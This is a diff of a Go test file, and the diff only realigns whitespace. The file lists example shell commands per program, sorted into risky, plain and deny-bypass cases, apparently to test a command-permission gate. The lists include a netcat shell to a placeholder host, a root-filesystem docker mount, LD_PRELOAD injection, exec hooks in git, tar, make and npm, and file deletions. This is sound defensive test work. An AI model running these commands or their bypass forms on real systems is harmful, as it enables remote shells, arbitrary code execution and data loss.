@@ -29,7 +29,7 @@ var programExamples = map[string]programExample{
 	"awk": {risky: []string{`awk 'BEGIN{system("touch x")}'`, `awk '{print > "out"}' f`, `awk '{print | "sh"}' f`, `awk -f prog.awk f`, `gawk -l ext 1 f`, `awk "$P" f`},
 		plain: []string{`awk '{print $1}' f`, `awk -F: -v n=1 '{print $n}' /etc/passwd`}, throughDeny: []string{`awk 'BEGIN{system("rm f")}'`}},
 	"sed": {risky: []string{`sed '1e touch x' f`, `sed 's/a/b/e' f`, `sed 's/a/b/w out' f`, `sed -n 'w out' f`, `sed -i s/a/b/ f`, `sed --in-place s/a/b/ f`, `sed -f script.sed f`, `sed -ne '1e id' f`, `sed "$S" f`},
-		plain: []string{`sed -n 's/a/b/p' f`, `sed -e 's/x/y/g' -e '/^#/d' f`, `sed -E 's/(a|b)+/c/2' f`, `sed '1,5!d;$q' f`, `sed --sandbox 's/a/b/e' f`},
+		plain:       []string{`sed -n 's/a/b/p' f`, `sed -e 's/x/y/g' -e '/^#/d' f`, `sed -E 's/(a|b)+/c/2' f`, `sed '1,5!d;$q' f`, `sed --sandbox 's/a/b/e' f`},
 		throughDeny: []string{`sed '1e rm f' x`, `sed 's/.*/rm f/e' x`}},
 	"find": {risky: []string{`find . -delete`, `find . -name x -fprint out`, `find . -exec touch {} +`, `find . -exec {} \;`},
 		plain: []string{`find . -name '*.go'`, `find . -type f -exec echo {} +`}, extra: []string{"bash(echo:*)"},
@@ -38,7 +38,7 @@ var programExamples = map[string]programExample{
 		`git -C /tmp status`, `git x`, `git fetch --upload-pack='touch x' origin`, `git push --receive-pack=touch origin`, `git ls-remote -u touch origin`,
 		`git diff --ext-diff`, `git log --output=out`, `git format-patch -o dir HEAD~1`, `git rebase -x 'touch x' HEAD~1`, `git submodule foreach touch x`,
 		`git bisect run touch x`, `git config core.pager 'touch x'`, `git difftool`, `git archive --exec=touch --remote=x HEAD`, `git grep -O'touch x' y`},
-		plain: []string{`git status`, `git diff --stat`, `git log --oneline -5`, `git --no-pager show HEAD`, `git config --get user.name`, `git config user.email`, `git commit -m 'x'`, `git push -u origin main`},
+		plain:       []string{`git status`, `git diff --stat`, `git log --oneline -5`, `git --no-pager show HEAD`, `git config --get user.name`, `git config user.email`, `git commit -m 'x'`, `git push -u origin main`},
 		throughDeny: []string{`git -c alias.x='!rm f' x`, `git rebase -x 'rm f' HEAD~1`}},
 	"env": {risky: []string{`env -S 'touch x'`, `env touch x`, `env LD_PRELOAD=x.so ls`, `env -Z ls`},
 		plain: []string{`env`, `env -i ls -la`, `env -u HOME ls`}, extra: []string{"bash(ls:*)"}, throughDeny: []string{`env rm f`, `env -S 'rm f'`, `env X=1 /bin/rm f`}},
@@ -61,7 +61,7 @@ var programExamples = map[string]programExample{
 	"at":      {risky: []string{`at now`, `echo touch x | batch`}, plain: []string{`at -l`}, throughDeny: []string{`echo rm f | at now`}},
 	"crontab": {risky: []string{`crontab file`, `crontab -`}, plain: []string{`crontab -l`}, throughDeny: []string{`echo '* * * * * rm f' | crontab -`}},
 	"python": {risky: []string{`python3 -c 'import os; os.system("touch x")'`, `python3`, `python3 -`, `node -e 'x'`, `node --eval=x`, `perl -ne 'system q(touch x)'`, `perl -e 1`, `ruby -e 'x'`, `php -r 'x;'`, `echo x | perl`, `pwsh -c x`, `osascript -e x`},
-		plain: []string{`python3 script.py`, `python3 -m pytest -q`, `python3 --version`, `node app.js`, `perl script.pl`},
+		plain:       []string{`python3 script.py`, `python3 -m pytest -q`, `python3 --version`, `node app.js`, `perl script.pl`},
 		throughDeny: []string{`python3 -c 'import os; os.system("rm f")'`, `echo 'rm f' | perl`, `echo 'import os; os.remove("f")' | python3`}},
 	"deno": {risky: []string{`deno eval 'x'`, `bun -e 'x'`, `deno`, `bun x pkg`}, plain: []string{`deno run main.ts`, `deno test`}, throughDeny: []string{`deno eval 'Deno.removeSync("f")'`}},
 	"tar": {risky: []string{`tar -xf a.tar --to-command='touch x'`, `tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='touch x' .`, `tar -I 'touch x' -cf a.tar .`, `tar --use-compress-program=x -cf a.tar .`, `tar cIf x a.tar .`},
@@ -76,9 +76,9 @@ var programExamples = map[string]programExample{
 	"ed":   {risky: []string{`ed f`, `ex f`, `echo '!touch x' | ed`}, throughDeny: []string{`echo '!rm f' | ed`}},
 	"make": {risky: []string{`make -f /dev/stdin`, `make -f - all`, `make --eval='x: ; touch x' x`, `make SHELL=/tmp/sh`, `make -f other.mk`, `make -C /tmp`},
 		plain: []string{`make`, `make test`, `make -j4 build`}, throughDeny: []string{`echo 'x: ; rm f' | make -f - x`, `make --eval='x: ; rm f' x`}},
-	"npx":  {risky: []string{`npx cowsay`, `bunx x`, `pnpx x`}, throughDeny: []string{`npx rimraf f`}},
-	"npm":  {risky: []string{`npm exec cowsay`, `npm x cowsay`, `pnpm dlx x`, `npm -c 'touch x' exec`, `npm config set script-shell /tmp/x`, `npm run build --script-shell=/tmp/x`}, plain: []string{`npm run build`, `npm test`, `npm install`}, throughDeny: []string{`npm exec -c 'rm f'`}},
-	"go":   {risky: []string{`go generate ./...`, `go test -exec 'touch x' ./...`, `go build -toolexec=x ./...`, `go vet -vettool=x ./...`, `go env -w GOFLAGS=-toolexec=x`, `go tool x`}, plain: []string{`go test ./...`, `go build ./...`, `go run .`, `go env GOPATH`}, throughDeny: []string{`go test -exec 'rm f' ./...`, `go generate ./...`}},
+	"npx":    {risky: []string{`npx cowsay`, `bunx x`, `pnpx x`}, throughDeny: []string{`npx rimraf f`}},
+	"npm":    {risky: []string{`npm exec cowsay`, `npm x cowsay`, `pnpm dlx x`, `npm -c 'touch x' exec`, `npm config set script-shell /tmp/x`, `npm run build --script-shell=/tmp/x`}, plain: []string{`npm run build`, `npm test`, `npm install`}, throughDeny: []string{`npm exec -c 'rm f'`}},
+	"go":     {risky: []string{`go generate ./...`, `go test -exec 'touch x' ./...`, `go build -toolexec=x ./...`, `go vet -vettool=x ./...`, `go env -w GOFLAGS=-toolexec=x`, `go tool x`}, plain: []string{`go test ./...`, `go build ./...`, `go run .`, `go env GOPATH`}, throughDeny: []string{`go test -exec 'rm f' ./...`, `go generate ./...`}},
 	"docker": {risky: []string{`docker run -v /:/h alpine touch /h/x`, `docker exec c touch x`, `docker build .`, `podman run x`}, plain: []string{`docker ps`, `docker images`, `docker logs c`}, throughDeny: []string{`docker run alpine rm f`}},
 	"nc":     {risky: []string{`nc -e /bin/sh h 1`, `ncat --sh-exec 'touch x' h 1`, `nc -c x h 1`}, plain: []string{`nc -z h 80`}, throughDeny: []string{`nc -e /bin/rm h 1`}},
 	"sort":   {risky: []string{`sort -o out f`, `sort --compress-program=x f`}, plain: []string{`sort -u f`, `sort -k2 -n f`}, throughDeny: []string{`sort --compress-program=rm f`}},
@@ -180,4 +180,3 @@ func mustGate(t *testing.T, mode Mode, allowed, denied []string) *Gate {
 	}
 	return g
 }
-
